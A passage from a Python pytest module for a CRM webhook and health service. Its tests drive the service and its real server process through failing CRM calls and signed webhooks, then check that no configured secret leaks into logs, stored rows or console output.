                "when": "band_entered",
                "channels": ["ops-slack", "ops-teams", "ops-hook", "ops-mail"],
            }
        ],
    }
    async with service.runtime.sessions() as session, session.begin():
        await configs.save(
            session,
            config=HealthConfig.model_validate(config),
            author="test",
            comment="alerts everywhere",
            now=_now(),
        )
    for _ in range(3):
        await service.runtime.pipeline.run_once()
        # Due now, not after the backoff: every retry fails again, through every path.
        async with service.runtime.sessions() as session, session.begin():
            await session.execute(update(AlertDelivery).values(available_at=_now()))
            await session.execute(update(WritebackItem).values(available_at=_now()))
    if service.runtime.provision_task is not None:
        await service.runtime.provision_task


def _context(logs: dict[str, str], leaks: list[tuple[str, str]]) -> str:
    """The lines that leak, so a failure says where each secret came from."""
    return "\n".join(
        f"{where}: {line[:400]}"
        for where, secret in leaks
        for line in logs[where].splitlines()
        if secret in line
    )


@pytest.mark.parametrize("captured_logs", ["info", "debug"], indirect=True)
async def test_no_configured_secret_appears_in_any_log_line(
    *, service_factory, tmp_path: Path, monkeypatch, captured_logs: Tee, caplog, capsys
) -> None:
    _leak_env(monkeypatch)
    # The service's level: caplog must not turn on what the service keeps off.
    caplog.set_level(captured_logs.level.upper())
    service: Service = await service_factory(
        **_secret_settings(
            tmp_path,
            crm="https://crm.unreachable.test",
            org_url="https://contoso.crm.dynamics.test",
            hook_url="https://receiver.test/hooks",
        ),
        provision_on_start=True,
        crm_transport=httpx.MockTransport(_failing_crm),
    )
    await _exercise(service)
    stderr = capsys.readouterr()
    records = [
        f"{record.getMessage()} {record.args!r} {record.exc_text or ''} {record.__dict__!r}"
        for record in caplog.records
    ]
    logs = {
        "structlog events": "\n".join(repr(event) for event in captured_logs.events),
        "stdlib records": "\n".join(records) + caplog.text,
        "rendered output": stderr.err + stderr.out,
    }
    # The run did go through the failures whose messages could carry a secret.
    assert len(captured_logs.events) > 10
    everything = "\n".join(logs.values())
    for expected in ("webhook_rejected", "webhook_accepted", "provision_on_start_failed"):
        assert expected in everything, f"{expected} was never logged"
    stored = "\n".join(f"{row.payload!r} {row.body!r}" for row in await inbox_rows(service))
    assert SF_SESSION not in stored
    leaks = [
        (where, secret) for where, text in logs.items() for secret in ALL_SECRETS if secret in text
    ]
    assert leaks == [], _context(logs, leaks)


def test_no_configured_secret_appears_in_the_output_of_crm_health_serve(
    database_url: str, tmp_path: Path
) -> None:
    """The real process: uvicorn (whose access log would print the Salesforce secret in the
    path and the Dynamics key in the query), the worker and start-up provisioning, at debug."""
    # Every outside party is a closed local port: refused at once, no DNS, no waiting.
    port, closed = _closed_port(), _closed_port()
    crm = f"http://127.0.0.1:{closed}"
    settings = _secret_settings(
        tmp_path, crm=crm, org_url=f"https://127.0.0.1:{closed}", hook_url=f"{crm}/hooks"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("CRM_HEALTH_")}
    env.update({f"CRM_HEALTH_{name.upper()}": str(value) for name, value in settings.items()})
    env.update(
        CRM_HEALTH_DATABASE_URL=database_url,
        CRM_HEALTH_PUBLIC_URL=f"http://127.0.0.1:{port}",
        CRM_HEALTH_LOG_LEVEL="debug",
        CRM_HEALTH_WORKER_POLL_SECONDS="0.1",
        LEAK_SLACK_URL=f"{crm}/services/T0/B0/{SLACK_SECRET}",
        LEAK_TEAMS_URL=f"{crm}/invoke?sig={TEAMS_SECRET}",
        LEAK_WEBHOOK_SECRET=WEBHOOK_SECRET,
    )
    command = [
        sys.executable,
        "-m",
        "webhooks",
        "serve",
        "--host",
        "127.0.0.1",
        "--port",
        str(port),
    ]
    # A file, not a pipe: at debug level the output would fill a pipe and block the server.
    log_file = tmp_path / "serve.log"
    with log_file.open("wb") as sink:
        process = subprocess.Popen(  # noqa: S603 - our own entry point
            command, cwd=tmp_path, env=env, stdout=sink, stderr=subprocess.STDOUT
        )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                httpx.get(f"{base}/healthz", timeout=1)
                break
            except httpx.TransportError:
                assert process.poll() is None, log_file.read_text()
                assert time.monotonic() < deadline, "serve did not start within 30 s"
                time.sleep(0.1)
        with httpx.Client(base_url=base, timeout=10) as client:
            hub_body = _batch(1)
            client.post(
                "/webhooks/hubspot",
                content=hub_body,
                headers=signed_v3_headers(
                    hub_body,
                    uri=f"{base}/webhooks/hubspot",
                    secret=SECRETS["hubspot_client_secret"],
                ),
            )
            sf_secret = SECRETS["salesforce_webhook_secret"]
            for path in (f"{sf_secret}", f"{sf_secret}x"):
                client.post(
                    f"/webhooks/salesforce/{SF_CONNECTION}/{path}",
                    content=outbound_message("04l5e000001", session=SF_SESSION),
                    headers={"Content-Type": "text/xml", "SOAPAction": '""'},
                )
            dyn_key = SECRETS["dynamics_webhook_auth_value"]
            for code in (dyn_key, f"{dyn_key}x"):
                client.post(
                    f"/webhooks/dynamics/{DYN_CONNECTION}?code={code}", content=DOCS_EXAMPLE
                )
            segment_key = SECRETS["segment_write_key"]
            track = {"type": "track", "event": "Used", "userId": "u1"}
            for key in (segment_key, f"{segment_key}x"):
                client.post("/ingest/segment/v1/track", json=track, headers=basic(key))
            # Segment's API also takes the write key in the body.
            client.post("/ingest/segment/v1/track", json={**track, "writeKey": segment_key})
            events = {"events": [native("usage", "1001", user="u1", days_ago=90)]}
            for token in (SECRETS["admin_token"], SECRETS["admin_token"] + "x"):
                client.post("/ingest/events", json=events, headers=bearer(token))
                client.post("/api/v1/session", json={"key": token})
        # The worker's pass over those events, and start-up provisioning: CRM calls and token
        # requests that fail.
        deadline = time.monotonic() + 15
        while not all(
            line in log_file.read_text()
            for line in ("batch_processed", "provision_on_start_failed")
        ):
            assert time.monotonic() < deadline, log_file.read_text()[-3000:]
            time.sleep(0.1)
    finally:
        process.terminate()
        process.wait(timeout=15)
    output = log_file.read_text()
    assert "webhook_accepted" in output
    assert "service_stopped" in output
    leaks = [secret for secret in ALL_SECRETS if secret in output]
    assert leaks == [], _context({"serve output": output}, [("serve output", s) for s in leaks])
